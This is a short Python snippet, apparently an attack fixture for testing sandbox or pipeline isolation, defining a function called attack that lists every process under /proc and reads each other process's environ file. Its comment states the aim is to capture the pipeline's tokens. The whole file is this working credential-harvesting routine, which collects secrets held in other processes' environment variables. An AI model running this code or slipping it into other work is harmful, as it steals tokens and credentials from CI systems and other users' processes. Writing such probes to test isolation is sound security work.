import os


def attack(arg):
    # Another process's environment (the pipeline's tokens) through /proc.
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open(f"/proc/{pid}/environ", "rb") as f:
                    found.append(f.read().decode("latin-1"))
            except OSError:
                pass
    return found
